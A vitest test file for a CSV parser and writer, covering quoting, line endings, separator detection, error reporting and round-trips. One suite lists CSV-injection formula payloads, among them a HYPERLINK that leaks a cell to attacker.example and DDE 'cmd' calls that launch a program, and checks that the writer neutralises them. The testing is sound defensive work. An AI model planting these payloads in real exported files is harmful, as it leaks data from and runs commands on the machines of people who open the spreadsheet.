import { describe, expect, it } from 'vitest';
import { detectSeparator, neutralise, parseCsv, unneutralise, writeCsv, writeCsvField } from '@/src/lab/csv';

describe('parseCsv', () => {
  it.each([
    ['simple', 'a,b\n1,2\n', [['a', 'b'], ['1', '2']]],
    ['no final newline', 'a,b\n1,2', [['a', 'b'], ['1', '2']]],
    ['CRLF', 'a,b\r\n1,2\r\n', [['a', 'b'], ['1', '2']]],
    ['lone CR', 'a,b\r1,2\r', [['a', 'b'], ['1', '2']]],
    ['BOM dropped', '\uFEFFa,b\n1,2', [['a', 'b'], ['1', '2']]],
    ['quoted separator', 'a,b\n"x, y",2', [['a', 'b'], ['x, y', '2']]],
    ['doubled quote', 'a\n"say ""hi"""', [['a'], ['say "hi"']]],
    ['newline in quotes', 'a,b\n"one\ntwo",3', [['a', 'b'], ['one\ntwo', '3']]],
    ['CRLF in quotes kept', 'a\n"one\r\ntwo"', [['a'], ['one\r\ntwo']]],
    ['empty fields', 'a,b,c\n,,\n', [['a', 'b', 'c'], ['', '', '']]],
    ['empty quoted field', 'a,b\n"",x', [['a', 'b'], ['', 'x']]],
    ['blank lines skipped', 'a\n\n1\n\n', [['a'], ['1']]],
    ['quote inside unquoted field kept', 'a\nit"s', [['a'], ['it"s']]],
    ['unicode', 'texte\n« déjà » — 日本', [['texte'], ['« déjà » — 日本']]],
  ])('%s', (_name, input, rows) => {
    const r = parseCsv(input);
    expect(r.rows).toEqual(rows);
    expect(r.errors).toEqual([]);
  });

  it('counts lines, including line breaks inside quoted fields', () => {
    const r = parseCsv('h\n"a\nb"\nc\n');
    expect(r.lines).toEqual([1, 2, 4]);
  });

  it('reports an unterminated quote with its line, and reads on from the next line', () => {
    const r = parseCsv('a,b\n1,"never closed\nmore');
    expect(r.errors).toEqual([{ line: 2, code: 'unterminated-quote' }]);
    expect(r.rows).toEqual([['a', 'b'], ['more']]);
    expect(r.lines).toEqual([1, 3]);
  });

  it.each([
    ['closed by a later record\'s quote', 'text,label\n"ok one",human\n"bad quote,machine\n"ok three",human\nplain four,machine\n'],
    ['never closed', 'text,label\n"ok one",human\n"bad quote,machine\nok three,human\nplain four,machine\n'],
    ['CRLF line ends', 'text,label\r\n"ok one",human\r\n"bad quote,machine\r\n"ok three",human\r\nplain four,machine\r\n'],
  ])('one unbalanced quote (%s) costs its own row only', (_, input) => {
    const r = parseCsv(input);
    expect(r.errors).toEqual([{ line: 3, code: 'unterminated-quote' }]);
    expect(r.rows).toEqual([['text', 'label'], ['ok one', 'human'], ['ok three', 'human'], ['plain four', 'machine']]);
    expect(r.lines).toEqual([1, 2, 4, 5]);
  });

  it('an unbalanced quote in a later field, too', () => {
    const r = parseCsv('a,b\n1,"x\n2,y\n');
    expect(r.errors).toEqual([{ line: 2, code: 'unterminated-quote' }]);
    expect(r.rows).toEqual([['a', 'b'], ['2', 'y']]);
  });

  it('reports text after a closing quote and keeps it', () => {
    const r = parseCsv('a,b\n"x"y,2');
    expect(r.errors).toEqual([{ line: 2, code: 'text-after-quote' }]);
    expect(r.rows[1]).toEqual(['xy', '2']);
  });

  it.each([
    ['a,b,c\n1,2,3', ','],
    ['a;b;c\n1;2;3', ';'],
    ['a\tb\n1\t2', '\t'],
    ['"x;y",b\n', ','],
    ['single', ','],
  ])('detects the separator of %j', (input, sep) => {
    expect(detectSeparator(input)).toBe(sep);
  });

  it('reads semicolon files (French spreadsheets)', () => {
    expect(parseCsv('texte;étiquette\n"Bonjour; à tous";humain').rows[1]).toEqual(['Bonjour; à tous', 'humain']);
  });
});

// CWE-1236 / OWASP "CSV injection": what a spreadsheet would run as a formula.
const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted once",
  "''+twice",
];

describe('spreadsheet-safe fields', () => {
  it.each(FORMULAS)('%j is written with a leading quote, quoted, never starting with a formula character', (value) => {
    const out = writeCsvField(value);
    expect(out.startsWith(`"'`)).toBe(true);
    const back = parseCsv(`h\n${out}`).rows[1]?.[0];
    expect(back).not.toMatch(/^[=+\-@\t\r]/);
    expect(unneutralise(back ?? '')).toBe(value);
  });

  it.each(['plain text', "it's fine", 'a = b', 'e-mail', '', "'", "'quoted", '2-3'])('%j is left as it is', (value) => {
    expect(neutralise(value)).toBe(value);
    expect(unneutralise(value)).toBe(value);
  });
});

describe('writeCsv', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [' padded', '" padded"'],
    ['', ''],
  ])('field %j -> %j', (value, out) => {
    expect(writeCsvField(value)).toBe(out);
  });

  it('round-trips awkward content', () => {
    const rows = [
      ['text', 'label'],
      ['Comma, "quotes" and\r\nnewlines', 'human'],
      ['; semicolon\ttab', 'machine'],
      ['', 'x'],
    ];
    expect(parseCsv(writeCsv(rows)).rows).toEqual(rows);
    expect(parseCsv(writeCsv(rows, ';')).rows).toEqual(rows);
  });
});
